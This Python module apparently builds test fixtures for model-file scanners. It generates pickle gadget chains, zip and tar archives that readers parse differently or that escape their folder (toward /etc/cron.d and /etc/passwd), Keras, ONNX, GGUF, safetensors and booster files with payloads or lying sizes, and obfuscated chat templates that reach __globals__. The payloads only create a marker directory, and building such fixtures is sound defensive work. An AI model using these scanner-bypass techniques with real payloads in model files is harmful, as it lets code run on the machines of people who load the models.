"""Families of tricks that the readers were not made with. Written first, frozen by `FROZEN`; see the package.

After published bypasses of scanners: the advisories of picklescan, the CVEs of Keras of 2024 and 2025, reports on
torch archives read in two ways, on chat templates, on ONNX functions, on the parsers of GGUF and of boosters.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Iterator

from . import build as b
from .build import Content, Makers, register

MAKERS: Makers = []

# Functions of the standard library and of libraries beside it that take a text and run it, or write where told.
GADGETS: tuple[tuple[str, str, str], ...] = (
    ("pydoc", "pipepager", "shell2"),
    ("timeit", "timeit", "python"),
    ("cProfile", "run", "python"),
    ("profile", "run", "python"),
    ("pdb", "run", "python"),
    ("doctest", "debug_script", "python"),
    ("code", "InteractiveInterpreter", "none"),
    ("lib2to3.pgen2.pgen", "ParserGenerator", "python"),
    ("idlelib.pyshell", "ModifiedInterpreter", "none"),
    ("ensurepip", "_run_pip", "list"),
    ("distutils.file_util", "write_file", "write"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", "shell"),
    ("logging", "FileHandler", "path"),
    ("_io", "FileIO", "path"),
    ("ctypes.util", "find_library", "path"),
    ("pkgutil", "resolve_name", "name"),
    ("uuid", "_get_command_stdout", "shell2"),
    ("numpy.f2py.crackfortran", "getlincoef", "python"),
    ("numpy.testing._private.utils", "runstring", "python"),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", "python"),
    ("torch.utils.collect_env", "run", "shell"),
    ("torch._inductor.codecache", "compile_file", "path"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", "python"),
    ("torch.utils._config_module", "load_config", "path"),
    ("sklearn.datasets._base", "_fetch_remote", "path"),
    ("joblib.externals.loky.process_executor", "_process_worker", "none"),
    ("pandas.io.pickle", "read_pickle", "path"),
    ("scipy.io._fortran", "FortranFile", "path"),
)


def _arguments(kind: str, mark: str) -> tuple[bytes, ...]:
    return {
        "python": (b.text(b.code(mark)), b"}"),
        "shell": (b.text(f"mkdir {mark}"),),
        "shell2": (b.text(""), b.text(f"mkdir {mark}")),
        "path": (b.text(mark),),
        "write": (b.text(mark), b"]"),
        "name": (b.text("os:mkdir"),),
        "list": (b"]",),
        "none": (),
    }[kind]


@register(MAKERS, "functions that run text", "pickle")
def gadgets(mark: str) -> Iterator[tuple[str, Content]]:
    for i, (module, attribute, kind) in enumerate(GADGETS):
        look_up = b.stacked(module, attribute) if i % 2 else b.name(module, attribute)
        yield f"gadget-{module}.{attribute}.pkl", b.pickled(b.call(look_up, *_arguments(kind, mark)))


@register(MAKERS, "names reached through others", "pickle")
def reached(mark: str) -> Iterator[tuple[str, Content]]:
    path = b.text(mark)
    for module, attribute in (
        ("torch.serialization", "os.mkdir"),
        ("numpy", "os.mkdir"),
        ("collections", "_sys.modules"),
        ("torch._utils", "sys.exit"),
        ("joblib.numpy_pickle", "os.mkdir"),
        ("torch.storage", "UntypedStorage.__init__.__globals__"),
    ):
        yield f"through-{module}.{attribute}.pkl", b.pickled(b.call(b.stacked(module, attribute), path))
    step = b.call(b.name("operator", "attrgetter"), b.text("mkdir"))
    module_of = b.call(b.name("importlib", "import_module"), b.text("os"))
    yield "through-attrgetter.pkl", b.pickled(b.call(b.call(step, module_of), path))
    partial = b.call(b.name("functools", "partial"), b.name("os", "mkdir"), path)
    yield "through-partial.pkl", b.pickled(b.call(partial))
    mapped = b.call(b.name("builtins", "map"), b.name("os", "mkdir"), b"]" + path + b"a")
    yield "through-map.pkl", b.pickled(b.call(b.name("builtins", "list"), mapped))
    yield "through-codecs.pkl", b.pickled(b.call(b.name("_codecs", "lookup"), b.text("os")))


@register(MAKERS, "state that changes classes", "pickle")
def states(mark: str) -> Iterator[tuple[str, Content]]:
    fetch = b.name("collections", "OrderedDict")
    slot = b"N}" + b.text("__setstate__") + b.name("os", "mkdir") + b"s\x86b"
    yield "slots-of-a-class.pkl", b.pickled(fetch + slot + b"0" + fetch + b")R" + b.text(mark) + b"b", 4)
    harmless = b"N}" + b.text("__setstate__") + b.name("torch._utils", "_rebuild_parameter") + b"s\x86b"
    yield "slots-of-a-torch-class.pkl", b.pickled(b.name("torch.nn.modules.linear", "Linear") + harmless)
    stats = b.name("scipy.stats._continuous_distns", "norm_gen") + b")\x81"
    shapes = b"}" + b.text("shapes") + b.text(f"a=({b.code(mark)})") + b"sb"
    yield "shapes-of-a-distribution.pkl", b.pickled(stats + shapes)
    getstate = b.name("sys", "modules") + b.text("torch") + b.name("os", "mkdir") + b"s"
    yield "item-of-modules.pkl", b.pickled(getstate)
    yield "inst-with-state.pkl", b.pickled(b"(" + b"iposixpath\ngenericpath.os.mkdir\n" + b.text(mark) + b"b", 2)


@register(MAKERS, "allocation bombs", "pickle")
def allocations(mark: str) -> Iterator[tuple[str, Content]]:
    huge = b"\x8a\x06" + (1 << 42).to_bytes(6, "little")
    yield "bytearray-of-terabytes.pkl", b.pickled(b.call(b.name("builtins", "bytearray"), huge))
    ranged = b.call(b.name("builtins", "range"), huge)
    yield "list-of-a-range.pkl", b.pickled(b.call(b.name("builtins", "list"), ranged))
    yield "memo-index.pkl", b.pickled(b"Nr\xff\xff\xff\x7f")
    yield "promised-bytes.pkl", b.pickled(b"\x8e" + struct.pack("<Q", 1 << 45) + b"abc")
    rebuild = b.call(
        b.name("numpy._core.multiarray", "_reconstruct"), b.name("numpy", "ndarray"), huge + b"\x85", b"C\x01b"
    )
    yield "array-of-terabytes.pkl", b.pickled(rebuild)
    yield "long-number.pkl", b.pickled(b"L" + b"9" * 4_000_000 + b"L\n")


@register(MAKERS, "arguments that readers spell differently", "pickle")
def spelled(mark: str) -> Iterator[tuple[str, Content]]:
    run = b.mkdir(mark)
    yield (
        "get-with-underscore.pkl",
        b.pickled(b.text("os") + b"q\x010" + b.text("mkdir") + b"q\x0a0g0_1\ng1_0\n\x93(" + b.text(mark) + b"tR"),
    )
    yield "hexadecimal-int.pkl", b.pickled(b"I0x10\n0" + run)
    yield "true-as-int.pkl", b.pickled(b"I01\n0" + run, 2)
    yield "text-with-escapes.pkl", b.pickled(b"V\\u006f\\u0073\nV\\u006dkdir\n\x93(" + b.text(mark) + b"tR")
    yield "string-with-escapes.pkl", b.pickled(b"S'\\x6fs'\nS'mkdir'\n\x93(" + b.text(mark) + b"tR")
    yield "broken-behind.pkl", b"\x80\x04" + run + b"\xff\xff\xff"
    yield "no-stop.pkl", b"\x80\x04" + run
    yield "protocol-twice.pkl", b"\x80\x02\x80\x04\x80\x00" + run + b"."
    yield "not-ascii-first.pkl", b.pickled(b"cn\xc3\xb4n\nexistent\n0" + run, 2)
    yield "old-module-name.pkl", b.pickled(b.call(b.name("commands", "getoutput"), b.text(f"mkdir {mark}")), 2)


@register(MAKERS, "zip read in two ways", "torch")
def two_ways(mark: str) -> Iterator[tuple[str, Content]]:
    bad, good = b.pickled(b.mkdir(mark), 2), b.pickled(b"}", 2)
    whole = b.checkpoint(bad)
    crc = whole.index(b"PK\x01\x02") + 16
    yield "wrong-crc.pt", whole[:crc] + b"\0\0\0\0" + whole[crc + 4 :]
    flag = whole.index(b"PK\x01\x02") + 8
    yield "said-to-be-encrypted.pt", whole[:flag] + b"\x01\0" + whole[flag + 2 :]
    local = bytearray(b.checkpoint(good + b"\0" * (len(bad) - len(good))))
    at = bytes(local).index(b"data.pkl")
    local[at : at + 8] = b"dbta.pkl"
    yield (
        "names-differ.pt",
        bytes(local[: bytes(local).index(b"PK\x01\x02")]) + bytes(whole[whole.index(b"PK\x01\x02") :]),
    )
    yield "two-roots.pt", b.zipped({"a/data.pkl": good, "a/version": b"3", "b/data.pkl": bad, "b/version": b"3"})
    yield "other-case.pt", b.checkpoint(good, {"DATA.PKL": bad})
    yield "two-archives.pt", b.checkpoint(good) + b.checkpoint(bad)
    yield "in-the-comment.pt", b.zipped({"archive/data.pkl": good, "archive/version": b"3"}, comment=bad)
    yield "named-otherwise.pt", b.checkpoint(good, {"data/helper": bad, "weights.bin": bad})
    size = whole.index(b"PK\x01\x02") + 24
    yield "size-lies.pt", whole[:size] + struct.pack("<I", 5) + whole[size + 4 :]


@register(MAKERS, "layers that load other things", "keras")
def layers(mark: str) -> Iterator[tuple[str, Content]]:
    run = base64.b64encode(b.pickled(b.mkdir(mark))).decode()
    inner = {
        "get_file": {
            "module": "keras.utils",
            "class_name": "function",
            "config": "get_file",
            "registered_name": "function",
        },
        "unsafe": {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "function",
        },
        "load_model": {
            "module": "keras.models",
            "class_name": "function",
            "config": "load_model",
            "registered_name": "function",
        },
    }
    for called, function in inner.items():
        yield f"{called}.keras", b.keras_zip(b.keras_model(b.keras_layer("Activation", {"activation": function})))
    for cls, config in (
        ("TorchModuleWrapper", {"module": run}),
        ("StringLookup", {"vocabulary": "/etc/passwd"}),
        ("TextVectorization", {"vocabulary": "https://example.org/words"}),
        ("TFSMLayer", {"filepath": "/tmp/elsewhere"}),
        ("JaxLayer", {"call_fn": {"class_name": "__lambda__", "config": {"value": [run, None, None]}}}),
    ):
        layer = b.keras_layer(cls, config)
        yield f"{cls}.keras", b.keras_zip(b.keras_model(layer))
        wrapped = b.keras_layer("TimeDistributed", {"layer": layer})
        yield f"{cls}-inside-another.keras", b.keras_zip(b.keras_model(wrapped))
    os_module = {"module": "os", "class_name": "function", "config": "mkdir", "registered_name": "mkdir"}
    yield "build-of-os.keras", b.keras_zip({**b.keras_model(), "build_config": os_module})
    compiled = {"optimizer": "adam", "loss": {**os_module, "module": "builtins", "config": "eval"}}
    yield "loss-of-builtins.keras", b.keras_zip({**b.keras_model(), "compile_config": compiled})
    yield "asset-of-pickle.keras", b.keras_zip(b.keras_model(), {"assets/vocabulary.pkl": b.pickled(b.mkdir(mark))})


@register(MAKERS, "operators given another meaning", "onnx")
def overrides(mark: str) -> Iterator[tuple[str, Content]]:
    relu = b.node("Relu", ["x"], ["y"])
    body = b.node("Mul", ["X", "X"], ["Y"])
    for domain in ("", "ai.onnx"):
        function = b.field(1, "Relu") + b.field(4, "X") + b.field(5, "Y") + b.field(7, body) + b.field(10, domain)
        yield f"relu-in-{domain or 'none'}.onnx", b.onnx([relu], functions=[function])
    hidden = b.field(1, "F") + b.field(4, "X") + b.field(5, "Y") + b.field(10, "own")
    hidden += b.field(7, b.node("Run", ["X"], ["Y"], domain="evil.ops"))
    yield (
        "custom-inside-a-function.onnx",
        b.onnx([b.node("F", ["x"], ["y"], domain="own")], functions=[hidden], domains=["own"]),
    )
    recursive = b.field(1, "F") + b.field(4, "X") + b.field(5, "Y") + b.field(10, "own")
    recursive += b.field(7, b.node("F", ["X"], ["Y"], domain="own"))
    yield "calls-itself.onnx", b.onnx([b.node("F", ["x"], ["y"], domain="own")], functions=[recursive], domains=["own"])


@register(MAKERS, "sizes and versions that lie", "onnx")
def lies(mark: str) -> Iterator[tuple[str, Content]]:
    add = b.node("Add", ["x", "w"], ["y"])
    yield "version-of-the-future.onnx", b.onnx([b.node("Relu", ["x"], ["y"])], ir=4_000)
    yield "opset-of-the-future.onnx", b.onnx([b.node("Relu", ["x"], ["y"])], opset=90_000)
    yield "tensor-too-short.onnx", b.onnx([add], [b.tensor("w", [1 << 20, 1 << 20], b"\0" * 16)])
    yield "negative-size.onnx", b.onnx([add], [b.tensor("w", [(1 << 64) - 4], b"\0" * 16)])
    yield "tensor-overflows.onnx", b.onnx([add], [b.tensor("w", [1 << 32, 1 << 32], b"\0" * 16)])
    outside = b.external("w", [4], location="w.bin", offset="0", length=str(1 << 40))
    yield "outside-too-long.onnx", {"outside-too-long.onnx": b.onnx([add], [outside]), "w.bin": b"\0" * 16}
    yield "two-graphs.onnx", b.onnx([b.node("Relu", ["x"], ["y"])]) + b.field(7, b.field(1, add) + b.field(2, "h"))


def _template(body: str) -> dict[str, str | int | list[str]]:
    plain = "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}{% endfor %}"
    return {"general.architecture": "llama", "tokenizer.chat_template": plain + body}


BUILT = {
    "attr-of-joined": "{{ (messages|attr(['__cl','ass__']|join)) }}",
    "attr-of-reversed": "{{ messages|attr('__ssalc__'[::-1]) }}",
    "attr-of-formatted": "{{ messages|attr('%sclass%s'|format('__','__')) }}",
    "attr-of-replaced": "{{ messages|attr('..class..'|replace('..','__')) }}",
    "map-of-attribute": "{{ [messages]|map(attribute='__class__')|list }}",
    "map-of-attr": "{{ [messages]|map('attr','__init__')|list }}",
    "selected-characters": "{% set u = ((messages|string|list)[0]) %}{{ messages[u ~ u ~ 'class' ~ u ~ u] }}",
    "keys-of-dict": "{{ messages[dict(__class__=1)|list|first] }}",
    "unicode-escapes": "{{ messages['\\u005f\\u005fclass\\u005f\\u005f'] }}",
    "hex-escapes": '{{ messages["\\x5f\\x5finit\\x5f\\x5f"]["\\x5f\\x5fglobals\\x5f\\x5f"] }}',
    "fields-of-format": "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "format-map": "{{ ('{m.__cl' + 'ass__}').format_map({'m': messages}) }}",
    "octal-lower": "{{ messages['__CLASS__'|lower] }}",
    "urlencoded": "{{ messages[('%c'*9)|format(95,95,99,108,97,115,115,95,95)] }}",
    "set-in-parts": "{% set a = '__glo' %}{% set c = 'bals__' %}{{ raise_exception[a ~ c] }}",
    "macro-attribute": "{% macro f() %}{% endmacro %}{{ f|attr('_func') }}",
    "namespace-attribute": "{% set n = namespace(a='_' * 2) %}{{ messages|attr(n.a ~ 'class' ~ n.a) }}",
    "include-a-file": "{% include '/etc/passwd' %}",
}


@register(MAKERS, "attributes put together", "gguf")
def put_together(mark: str) -> Iterator[tuple[str, Content]]:
    for called, body in list(BUILT.items())[::2]:
        yield f"{called}.gguf", b.gguf(_template(body))


@register(MAKERS, "attributes put together", "chat template")
def put_together_in_json(mark: str) -> Iterator[tuple[str, Content]]:
    for called, body in list(BUILT.items())[1::2]:
        config = {"tokenizer_class": "X", "chat_template": [{"name": "default", "template": body}]}
        yield called, {"tokenizer_config.json": json.dumps(config).encode()}


@register(MAKERS, "sizes that lie", "gguf")
def gguf_lies(mark: str) -> Iterator[tuple[str, Content]]:
    pairs: dict[str, str | int | list[str]] = {"general.architecture": "llama"}
    info = b.gguf_text("w") + struct.pack("<IQQIQ", 2, 1 << 40, 1 << 40, 0, 0)
    yield "tensor-overflows.gguf", b.gguf(pairs, tensors=info, n_tensors=1)
    beyond = b.gguf_text("w") + struct.pack("<IQIQ", 1, 4, 0, 1 << 50)
    yield "tensor-beyond-the-end.gguf", b.gguf(pairs, tensors=beyond, n_tensors=1, body=b"\0" * 16)
    many = b.gguf_text("w") + struct.pack("<I", 4_000_000)
    yield "dimensions-by-millions.gguf", b.gguf(pairs, tensors=many, n_tensors=1)
    yield "pairs-by-billions.gguf", b.gguf(pairs, n_pairs=1 << 40)
    long = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"abc"
    yield "key-too-long.gguf", long
    nested = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + b.gguf_text("a") + struct.pack("<I", 9)
    yield "arrays-in-arrays.gguf", nested + struct.pack("<IQ", 9, 1) * 20_000 + struct.pack("<IQ", 8, 0)
    twice = b.gguf_text("w") + struct.pack("<IQIQ", 1, 4, 0, 0)
    yield "same-place-twice.gguf", b.gguf(pairs, tensors=twice + twice, n_tensors=2, body=b"\0" * 16)


@register(MAKERS, "headers that disagree", "safetensors")
def headers(mark: str) -> Iterator[tuple[str, Content]]:
    one = '"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}'
    other = '"w":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}'
    yield "same-key-twice.safetensors", b.safetensors("{" + one + "," + other + "}", b"\0" * 16)
    yield (
        "key-inside-twice.safetensors",
        b.safetensors('{"w":{"dtype":"F32","dtype":"I64","shape":[1],"data_offsets":[0,8]}}', b"\0" * 8),
    )
    yield (
        "sizes-overflow.safetensors",
        b.safetensors({"w": {"dtype": "F32", "shape": [1 << 31, 1 << 31, 4], "data_offsets": [0, 0]}}, b""),
    )
    yield (
        "negative-sizes.safetensors",
        b.safetensors({"w": {"dtype": "F32", "shape": [-2, -1], "data_offsets": [0, 8]}}, b"\0" * 8),
    )
    yield "pickle-behind.safetensors", b.safetensors("{" + one + "}", b"\0" * 8 + b.pickled(b.mkdir(mark)))
    yield (
        "archive-behind.safetensors",
        b.safetensors("{" + one + "}", b"\0" * 8 + b.checkpoint(b.pickled(b.mkdir(mark)))),
    )
    yield "deep-metadata.safetensors", b.safetensors('{"__metadata__":' + "[" * 50_000 + "]" * 50_000 + "}", b"")


def _tar(*entries: tarfile.TarInfo, bodies: dict[str, bytes] | None = None, mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for entry in entries:
            body = (bodies or {}).get(entry.name, b"")
            entry.size = len(body)
            archive.addfile(entry, io.BytesIO(body))
    return out.getvalue()


@register(MAKERS, "links and devices", "archive")
def links(mark: str) -> Iterator[tuple[str, Content]]:
    soft, hard, device, up = (tarfile.TarInfo(n) for n in ("weights", "weights", "weights", "../../etc/cron.d/x"))
    soft.type, soft.linkname = tarfile.SYMTYPE, "/etc"
    hard.type, hard.linkname = tarfile.LNKTYPE, "../../../etc/passwd"
    device.type = tarfile.CHRTYPE
    through = tarfile.TarInfo("weights/passwd")
    yield "soft-link.tar", _tar(soft, through, bodies={"weights/passwd": b"x"})
    yield "hard-link.tar.gz", _tar(hard, mode="w:gz")
    yield "device.tar", _tar(device)
    yield "upwards.nemo", _tar(up, bodies={up.name: b"x"})
    inner = tarfile.TarInfo("model/data.pkl")
    yield "pickle-in-tar.tar.xz", _tar(inner, bodies={inner.name: b.pickled(b.mkdir(mark))}, mode="w:xz")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("weights")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc")
    yield "soft-link.zip", out.getvalue()


@register(MAKERS, "trees that point outside themselves", "boosters")
def trees(mark: str) -> Iterator[tuple[str, Content]]:
    tree = {
        "base_weights": [0.0, 0.0, 0.0], "categories": [], "categories_nodes": [], "categories_segments": [],
        "categories_sizes": [], "default_left": [0, 0, 0], "id": 0, "left_children": [1_000_000, -1, -1],
        "loss_changes": [0.0] * 3, "parents": [2147483647, 0, 0], "right_children": [2, -1, -1],
        "split_conditions": [0.5, 0.1, 0.2], "split_indices": [0, 0, 0], "split_type": [0, 0, 0],
        "sum_hessian": [1.0] * 3,
        "tree_param": {"num_deleted": "0", "num_feature": "4", "num_nodes": "3", "size_leaf_vector": "1"},
    }  # fmt: skip
    for called, change in (
        ("child-outside", {}),
        ("column-outside", {"left_children": [1, -1, -1], "split_indices": [1 << 30, 0, 0]}),
        (
            "nodes-too-many",
            {"left_children": [1, -1, -1], "tree_param": {**tree["tree_param"], "num_nodes": "99999999"}},
        ),
    ):
        model = {
            "learner": {
                "attributes": {}, "feature_names": [], "feature_types": [],
                "gradient_booster": {
                    "model": {
                        "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"},
                        "iteration_indptr": [0, 1], "tree_info": [0], "trees": [{**tree, **change}],
                    },
                    "name": "gbtree",
                },
                "learner_model_param": {"base_score": "5E-1", "num_class": "0", "num_feature": "4", "num_target": "1"},
                "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}},
            },
            "version": [3, 2, 0],
        }  # fmt: skip
        yield f"{called}.json", json.dumps(model).encode()
    text = (
        "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\n"
        "objective=regression\nfeature_names=a b c d\nfeature_infos=none none none none\ntree_sizes=300\n\n"
        "Tree=0\nnum_leaves={n}\nnum_cat=0\nsplit_feature={f} 0\nsplit_gain=1 1\nthreshold=0.5 0.5\n"
        "decision_type=2 2\nleft_child={l} -1\nright_child=1 -3\nleaf_value=1 2 3\nleaf_weight=1 1 1\n"
        "leaf_count=1 1 1\ninternal_value=0 0\ninternal_weight=0 0\ninternal_count=2 2\nis_linear=0\nshrinkage=1\n"
        "\n\nend of trees\n\nparameters:\nend of parameters\n"
    )
    for called, numbers in (
        ("child-outside", {"n": 3, "f": 0, "l": 70_000}),
        ("leaves-too-many", {"n": 2_000_000_000, "f": 0, "l": -2}),
        ("column-outside", {"n": 3, "f": 900_000, "l": -2}),
    ):
        yield f"{called}.txt", text.format(**numbers).encode()


@register(MAKERS, "code beside the model", "configuration")
def beside(mark: str) -> Iterator[tuple[str, Content]]:
    auto = {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}
    yield "auto-map", {"config.json": json.dumps(auto).encode()}
    yield "yaml-object", {"params.yaml": f"a: !!python/object/apply:os.mkdir ['{mark}']\n".encode()}
    yield "remote-auto-map", {"config.json": json.dumps({"auto_map": {"AutoConfig": "who/what--conf.C"}}).encode()}
